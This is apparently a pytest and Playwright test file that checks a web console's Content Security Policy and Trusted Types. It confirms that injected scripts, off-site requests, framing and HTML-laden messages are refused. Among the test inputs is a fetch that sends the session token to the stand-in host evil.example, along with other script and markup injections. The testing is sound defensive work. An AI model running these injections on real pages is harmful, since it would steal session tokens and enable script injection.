"""What stands against an injection: the policy of the page, and text that is never anything else."""

import json
from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from tests.console.seeded import HTML, Seeded
from tests.console.visits import Visit

ELSEWHERE = "https://evil.example"


def test_an_injected_script_does_nothing(console: Visit) -> None:
    page = console.open()
    console.expects("CSP require-trusted-types-for")
    page.evaluate("""() => {
      const script = document.createElement("script");
      script.append("document.title = 'owned'");
      document.body.append(script);
    }""")
    assert page.title() != "owned"


def test_text_does_not_become_markup_or_a_program(console: Visit) -> None:
    page = console.open()
    console.expects("CSP require-trusted-types-for")
    for injection in (
        "document.body.innerHTML = '<b>owned</b>'",
        "document.createElement('script').src = 'console/console.js'",
        "setTimeout('document.title = `owned`')",
    ):
        refused = page.evaluate(f"() => {{ try {{ {injection}; return null }} catch (error) {{ return error.name }} }}")
        assert refused == "TypeError"
    refused = page.evaluate(
        "() => { try { trustedTypes.createPolicy('own', {}); return null } catch (error) { return error.name } }"
    )
    assert refused == "TypeError"
    console.expects("CSP trusted-types")


REFUSED = {
    "connect-src": f"fetch('{ELSEWHERE}/?token=' + sessionStorage.getItem('token')).catch(() => null)",
    "img-src": f"new Image().src = '{ELSEWHERE}/x.png'",
    "frame-src": f"document.body.append(Object.assign(document.createElement('iframe'), {{src: '{ELSEWHERE}'}}))",
    "style-src-attr": "document.body.setAttribute('style', 'display: none')",
    "style-src-elem": "const style = document.createElement('style'); style.append('*{}'); document.body.append(style)",
    "base-uri": f"document.head.append(Object.assign(document.createElement('base'), {{href: '{ELSEWHERE}'}}))",
    "form-action": "const form = document.createElement('form'); document.body.append(form); form.submit()",
}


@pytest.mark.parametrize("directive", REFUSED)
def test_the_policy_refuses(console: Visit, directive: str) -> None:
    page = console.open()
    console.expects(f"CSP {directive}")
    for harmless in (f"asked {ELSEWHERE}", f"failed GET {ELSEWHERE}"):
        console.permits(harmless)
    with page.expect_event("console", lambda line: line.text.startswith("CSP ")):
        page.evaluate(f"() => {{ {REFUSED[directive]} }}")


def test_another_page_cannot_frame_it(visit: Callable[..., Visit], make_run: object) -> None:
    frame = visit(token=None)
    frame.permits("failed GET|answered|asked|error:")
    page = frame.page
    page.route("http://other.example/", lambda route: route.fulfill(
        body=f"<iframe src='{frame.url}/console'></iframe>", content_type="text/html"))  # fmt: skip
    page.goto("http://other.example/")
    expect(page.locator("iframe")).to_be_attached()
    assert all("pgbroker" not in each.title() for each in page.frames if each != page.main_frame)


def test_a_message_full_of_html_is_text(console: Visit, seeded: Seeded) -> None:
    page = console.open(f"#/topics/orders/messages/{seeded.html}")
    expect(page.get_by_role("region", name="The content as it was written")).to_contain_text(json.dumps(HTML))
    expect(page.get_by_text("<b>sender</b>", exact=True)).to_be_visible()
    assert page.title() != "owned"
    assert page.locator("main img, main script, main b:text-is('bold')").count() == 0
